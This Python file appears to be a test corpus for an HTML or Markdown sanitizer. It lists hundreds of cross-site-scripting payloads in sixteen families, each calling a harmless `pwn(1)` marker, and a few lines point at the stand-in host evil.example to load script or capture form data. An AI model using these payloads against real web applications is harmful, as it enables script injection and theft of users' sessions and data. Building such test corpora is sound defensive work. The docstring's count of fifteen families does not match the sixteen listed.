# ruff: noqa: E501 - a payload is one line
"""Twenty payloads in each of fifteen families. Every one would call `pwn()` if a browser ever ran it.

`short` families are also tried where a field is short; a payload that is cut off in the middle is an attack of its own.
"""

X = "pwn(1)"
TAGS = "a b body br button details div img input marquee p select span svg table td textarea u video".split()
EVENTS = "onload onerror onfocus onmouseover onclick ontoggle onanimationstart onbeforeinput onpointerenter onwheel".split()

SCRIPTS = [
    f"<script>{X}</script>",
    f"<SCRIPT>{X}</SCRIPT>",
    f"<scr<script>ipt>{X}</scr</script>ipt>",
    f"<script >{X}</script >",
    f"<script\n>{X}</script\n>",
    f"<script/x>{X}</script>",
    f"<script\x0c>{X}</script>",
    f"<script type=module>{X}</script>",
    f"<script type=text/javascript>{X}</script>",
    f"<script async>{X}</script>",
    f"<script src=data:text/javascript,{X}></script>",
    f"<script src=//evil.example/x.js>{X}</script>",
    f"</title><script>{X}</script>",
    f"</textarea><script>{X}</script>",
    f"</script><script>{X}</script>",
    f"</style><script>{X}</script>",
    f"</noscript><script>{X}</script>",
    f"<<script>{X}//<</script>",
    f"<script>{X}",
    "<script>/*",
    f"*/{X}</script>",
    f"`<script>{X}</script>`",
]
EVENT_HANDLERS = [f"<{tag} {event}={X}>" for tag, event in zip(TAGS, EVENTS * 2, strict=False)]
EVENT_HANDLERS += [
    f"<img src=x onerror={X}>",
    f"<img src=x:x onerror='{X}'>",
    f'<img src=x onerror="{X}"/',
    f"<img/src=x/onerror={X}>",
    f"<img src=x\nonerror\n=\n{X}>",
]
SVG_AND_MATH = [
    f"<svg onload={X}>",
    f"<svg><script>{X}</script></svg>",
    f"<svg><script>{X}",
    f"<svg><animate onbegin={X} attributeName=x dur=1s>",
    f"<svg><set onbegin={X} attributeName=x>",
    f"<svg><a xlink:href=javascript:{X}><text y=20>x</text></a></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{X} /><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={X}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={X}></style></svg>",
    f"<svg><title><img src=x onerror={X}></title></svg>",
    f"<svg><desc><script>{X}</script></desc></svg>",
    f"<svg><use href=data:image/svg+xml,<svg id=x onload={X}>#x />",
    f"<svg/onload={X}>",
    f"<svg\tonload={X}>",
    f"<math><mtext><img src=x onerror={X}></mtext></math>",
    f"<math href=javascript:{X}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{X}>x</maction></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={X}></annotation-xml></math>",
    f"<math><mi><table><mglyph><style><img src=x onerror={X}>",
    f"<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{X}</handler></svg>",
]
SCHEMES = [
    f"javascript:{X}", f"JaVaScRiPt:{X}", f" javascript:{X}", f"\tjavascript:{X}", f"java\tscript:{X}", f"java\nscript:{X}", f"\x01javascript:{X}",
    f"javascript&colon;{X}", f"javascript&#58;{X}", f"javascript&#x3a;{X}", f"javascript&#0000058{X}", f"&#106;avascript:{X}", f"java&Tab;script:{X}",
    f"java&NewLine;script:{X}", f"vbscript:{X}", f"javascript://x%0a{X}", "javascript:%70wn(1)", f"jav%61script:{X}", f"//javascript:{X}",
    f"feed:javascript:{X}", f"view-source:javascript:{X}", f"livescript:{X}", f"javascript\u200b:{X}", f"\u2028javascript:{X}",
]  # fmt: skip
SCRIPT_LINKS = [f'<a href="{scheme}">x</a>' for scheme in SCHEMES]
DATA_LINKS = [
    f'<a href="data:text/html,<script>{X}</script>">x</a>',
    "<a href=data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=>x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=)",
    f"[x](data:text/html,<script>{X}</script>)",
    f"![x](data:image/svg+xml,<svg onload={X}>)",
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{X}'/>\">",
    f'<object data="data:text/html,<script>{X}</script>">',
    f'<embed src="data:text/html,<script>{X}</script>">',
    f'<iframe src="data:text/html,<script>{X}</script>">',
    f'<form action="data:text/html,<script>{X}</script>"><button>x</button></form>',
    f'<link rel=import href="data:text/html,<script>{X}</script>">',
    f'<meta http-equiv=refresh content="0;url=data:text/html,<script>{X}</script>">',
    f'<base href="data:text/html,<script>{X}</script>">',
    "<a href=DATA:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=>x</a>",
    "<a href='&#100;ata:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4='>x</a>",
    "<data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=>",
    f"<blob:http://x/{X}>",
    f"[x](filesystem:http://x/{X})",
    f"<video><source src=data:video/mp4, onerror={X}></video>",
    f'<input type=image src="data:image/svg+xml,<svg onload={X}>">',
]
BREAKOUTS = [
    f"{close}{attack}"
    for close in ('">', "'>", "-->", "</a>", '" ')
    for attack in (f"<img src=x onerror={X}>", f"autofocus onfocus={X} ", f'onmouseover={X} x="', f"<svg onload={X}>")
]
ENTITIES = [
    f"&lt;script&gt;{X}&lt;/script&gt;", f"&amp;lt;script&amp;gt;{X}&amp;lt;/script&amp;gt;", f"&#60;script&#62;{X}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{X}&#x3c;/script&#x3e;", f"&#60script&#62{X}&#60/script&#62", f"&LT;script&GT;{X}&LT;/script&GT;", f"%3Cscript%3E{X}%3C/script%3E",
    f"%253Cscript%253E{X}%253C/script%253E", f"\\u003cscript\\u003e{X}\\u003c/script\\u003e", f"\\x3cscript\\x3e{X}\\x3c/script\\x3e",
    f"+ADw-script+AD4-{X}+ADw-/script+AD4-", f"\uff1cscript\uff1e{X}\uff1c/script\uff1e", f"\u2039script\u203a{X}\u2039/script\u203a",
    f"&#0060;script&#0062;{X}", f"&#00000000060script&#x0000003e;{X}", f"&lt;img src=x onerror={X}&gt;", f"&quot;&gt;&lt;img src=x onerror={X}&gt;",
    f"&#34;&#62;&#60;img src=x onerror={X}&#62;", f"&apos;&gt;&lt;svg onload={X}&gt;", f"&#x0A;&lt;script&gt;{X}&lt;/script&gt;", f"\u00ab<script>{X}</script>\u00bb",
]  # fmt: skip
MUTATIONS = [
    f"<noscript><p title=\"</noscript><img src=x onerror={X}>\">", f"<style><style/><img src=x onerror={X}>", f"<xmp><p title=\"</xmp><img src=x onerror={X}>\">",
    f"<title><p title=\"</title><img src=x onerror={X}>\">", f"<textarea><p title=\"</textarea><img src=x onerror={X}>\">",
    f"<table><td><select><img src=x onerror={X}>", f"<select><template><img src=x onerror={X}></template>", f"<template><script>{X}</script></template>",
    f"<p><table><p title=\"<img src=x onerror={X}>\">", f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={X} src>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={X}&gt;\">", f"<svg></p><style><a id=\"</style><img src=x onerror={X}>\">",
    f"<a href=\"`<img src=x onerror={X}>`\">", f"<plaintext><img src=x onerror={X}>", f"<listing>&lt;img src=x onerror={X}&gt;</listing>",
    f"<noembed><img title=\"</noembed><img src=x onerror={X}>\"></noembed>", f"<iframe><img title=\"</iframe><img src=x onerror={X}>\"></iframe>",
    f"<frameset><frame src=javascript:{X}>", f"<img src=\"x` `<script>{X}</script>\"` `>", f"<![if !IE]><img src=x onerror={X}><![endif]>",
    f"<ruby><rt><img src=x onerror={X}><rtc>", f"<a\u00a0href=javascript:{X}>x</a>",
]  # fmt: skip
MARKDOWN_LINKS = [f"[x]({scheme})" for scheme in SCHEMES[:14]] + [
    f"<javascript:{X}>", f"[x][y]\n\n[y]: javascript:{X}", f"[x](<javascript:{X}>)", f"[x](http://a\"onmouseover={X})", f"[x](http://a 'b\" onmouseover=\"{X}')",
    f"[<img src=x onerror={X}>](http://a)", f"[x](http://a\nonmouseover={X})", f"[x]( javascript:{X} \"t\")", f"[a]: http://b \"\\\" onclick={X} x=\\\"\"\n\n[a]",
]  # fmt: skip
MARKDOWN_REST = [
    f"![x](x\" onerror=\"{X})", f"![x\" onerror={X} a=\"](y)", f"![x](y 'z\" onerror=\"{X}')", f"```<img src=x onerror={X}>\ncode\n```", f"```\" onmouseover={X} \"\ncode\n```",
    f"``` {{.x onmouseover={X}}}\ncode\n```", f"x[^<img src=x onerror={X}>]\n\n[^<img src=x onerror={X}>]: y", f"x[^1]\n\n[^1]: <img src=x onerror={X}>",
    f"# <img src=x onerror={X}>", f"# x {{#y onclick={X}}}", f"{{: onclick={X}}}", f"| <img src=x onerror={X}> |\n|---|\n| <svg onload={X}> |", f"x\n: <img src=x onerror={X}>",
    f"> <img src=x onerror={X}>", f"- <img src=x onerror={X}>", f"~<img src=x onerror={X}>~", f"^<img src=x onerror={X}>^", f"\\<img src=x onerror={X}\\>",
    f"*<img src=x onerror={X}>*", f"<div markdown=1><img src=x onerror={X}></div>", f"*[CDM]: <img src=x onerror={X}>", f"[TOC]<img src=x onerror={X}>",
]  # fmt: skip
COMMENTS = [
    f"<!--><img src=x onerror={X}>-->", f"<!---><img src=x onerror={X}>-->", f"<!-- --!><img src=x onerror={X}>-->", f"<!-- x --><img src=x onerror={X}>", f"<!-<img src=x onerror={X}>->",
    f"<![CDATA[<img src=x onerror={X}>]]>", f"]]><script>{X}</script>", f"]]&gt;<script>{X}</script>", f"<?xml version=\"1.0\"?><script>{X}</script>", f"<?php {X} ?><img src=x onerror={X}>",
    f"<!DOCTYPE x [<!ENTITY y \"<script>{X}</script>\">]>&y;", f"<!--[if gte IE 4]><script>{X}</script><![endif]-->", f"<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">{X}</x:script>",
    f"<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>{X}</script></html>", f"</entry><script xmlns=\"http://www.w3.org/1999/xhtml\">{X}</script>", f"</item></channel><script>{X}</script>",
    f"</description><x xmlns:s=\"http://www.w3.org/2000/svg\"><s:script>{X}</s:script></x>", f"<xsl:script>{X}</xsl:script>", f"<!-- `<img src=x onerror={X}>` -->", f"<!--\x00--><img src=x onerror={X}>",
    f"<!-{X}-><svg onload={X}>",
]  # fmt: skip
FRAMES = [
    f"<iframe src=javascript:{X}>", f"<iframe srcdoc=\"<script>parent.{X}</script>\">", f"<iframe onload={X}>", f"<object data=javascript:{X}>", f"<embed src=javascript:{X}>",
    f"<base href=javascript:{X}//>", "<base href=//evil.example/>", f"<meta http-equiv=refresh content=\"0;javascript:{X}\">", "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
    f"<link rel=stylesheet href=javascript:{X}>", f"<link rel=preload as=script onload={X} href=/static/x>", f"<applet code=javascript:{X}>", f"<frame src=javascript:{X}>", f"<portal src=javascript:{X}>",
    f"<fencedframe src=javascript:{X}>", f"<object><param name=src value=javascript:{X}></object>", f"<iframe src=\"&#9;javascript:{X}\">", f"<iframe/src=javascript:{X}>", f"<isindex type=image src=1 onerror={X}>",
    f"<bgsound src=javascript:{X}>", f"<layer src=javascript:{X}>", f"<img src=javascript:{X}>", f"<image src=x onerror={X}>",
]  # fmt: skip
STYLES = [
    f"<p style=\"background:url(javascript:{X})\">x</p>", f"<p style=\"x:expression({X})\">x</p>", f"<p style=animation-name:x onanimationstart={X}>x</p>", f"<style>@import 'javascript:{X}';</style>",
    "<style>*{background:url(//evil.example)}</style>", f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationend={X}>", "<p class=\"\" style='behavior:url(x)'>x</p>",
    f"<link rel=stylesheet href=data:text/css,*{{}} onload={X}>", f"<style onload={X}></style>", f"<style>\n<!--\n</style><script>{X}</script>", "<p style=\"-moz-binding:url(//evil.example)\">x</p>",
    f"<xss style=\"transition:color 1s\" ontransitionend={X}>x</xss>", f"<div style=width:1px;filter:glow onfilterchange={X}>x</div>", f"<style type=text/css>{{}}</style ><img src=x onerror={X}>",
    f"<p style=\"</style><img src=x onerror={X}>\">x</p>", f"<table background=javascript:{X}>", f"<td background=javascript:{X}>", f"<body background=javascript:{X}>", f"<marquee onstart={X}>x</marquee>",
    f"<details open ontoggle={X}>x</details>", f"<font color=\"\"onmouseover={X}>x</font>",
]  # fmt: skip
SCRIPT_CONTEXTS = [
    f"</script><script>{X}</script>", f"</ScRiPt ><svg onload={X}>", "<!--<script>", f"\";{X};//", f"';{X};//", f"\\\";{X};//", f"\\';{X};//", f"${{{X}}}", f"`;{X};`", f"\u2028{X}//", f"\u2029{X}//", f"*/{X}/*",
    f"{{\"__proto__\":{{\"x\":\"{X}\"}}}}", f"{{{{constructor.constructor('{X}')()}}}}", f"{{{{{X}}}}}", f"{{% load x %}}{{{{ {X} }}}}", f"<%= {X} %>", f"#{{{X}}}", f"\"}}]}}</script><script>{X}</script>",
    f"\"-{X}-\"", f"'-{X}-'", f"=cmd|'{X}'!A1", f"@SUM({X})",
]  # fmt: skip
FORMS_AND_NAMES = [
    f"<form action=javascript:{X}><button>x</button></form>", f"<form><button formaction=javascript:{X}>x</button></form>", f"<input autofocus onfocus={X}>", f"<button onclick={X}>x</button>",
    f"<form id=x></form><button form=x formaction=javascript:{X}>x</button>", f"<input type=image formaction=javascript:{X}>", f"<a id=pwn href=javascript:{X}>x</a>", "<img name=getElementById>",
    "<form name=documentElement><input name=parentNode></form>", "<a id=CSRF><a id=CSRF name=token href=x>", "<input name=csrfmiddlewaretoken value=x>", "<form action=//evil.example><input name=q>",
    f"<keygen autofocus onfocus={X}>", f"<select autofocus onfocus={X}>", f"<textarea autofocus onfocus={X}>", f"<label onclick={X}>x</label>", f"<a id=main name=main accesskey=x onclick={X}>x</a>",
    "<h2 id=\"search\">x</h2>", f"<div popover id=x onbeforetoggle={X}>", f"<dialog open onclose={X}><form method=dialog><button>x</button></form></dialog>", f"<img usemap=#x><map name=x><area href=javascript:{X}></map>",
]  # fmt: skip
UNICODE = [
    f"<scr\u0131pt>{X}</scr\u0131pt>", f"<\u017fcript>{X}</\u017fcript>", f"<script\u3000>{X}</script>", f"<img src=x on\u0435rror={X}>", f"<img src=x o\u2060nerror={X}>", f"\u202e<img src=x onerror={X}>",
    f"\u2066<script>{X}</script>\u2069", f"<img\u00a0src=x\u00a0onerror={X}>", f"<img\u2028src=x\u2028onerror={X}>", f"<img\ufeffsrc=x\ufeffonerror={X}>", f"\ufeff<script>{X}</script>", f"<svg\u000bonload={X}>",
    f"<\u200bscript>{X}</script>", f"<img src=x onerror\uff1d{X}>", f"\u1680<img src=x onerror={X}>", f"a\u0301\u0301<img src=x onerror={X}>", f"\U0001f469\u200d\U0001f4bb<svg onload={X}>",
    f"<img src=\u201dx\u201d onerror={X}>", f"\u2018\u201c><img src=x onerror={X}>", f"<\ufe64script>{X}</script>", f"\ufe64script\ufe65{X}\ufe64/script\ufe65", f"<img src=x onerror={X}\u0338>",
]  # fmt: skip

FAMILIES = {
    "script elements": SCRIPTS,
    "event handlers": EVENT_HANDLERS,
    "SVG and MathML": SVG_AND_MATH,
    "links to scripts": SCRIPT_LINKS,
    "data and blob addresses": DATA_LINKS,
    "attribute breakouts": BREAKOUTS,
    "entities and encodings": ENTITIES,
    "mutating markup": MUTATIONS,
    "Markdown links": MARKDOWN_LINKS,
    "Markdown images, code, notes, tables": MARKDOWN_REST,
    "comments, CDATA, XML": COMMENTS,
    "frames, objects, base, meta": FRAMES,
    "styles": STYLES,
    "script, JSON, template and CSV contexts": SCRIPT_CONTEXTS,
    "forms and names": FORMS_AND_NAMES,
    "Unicode": UNICODE,
}
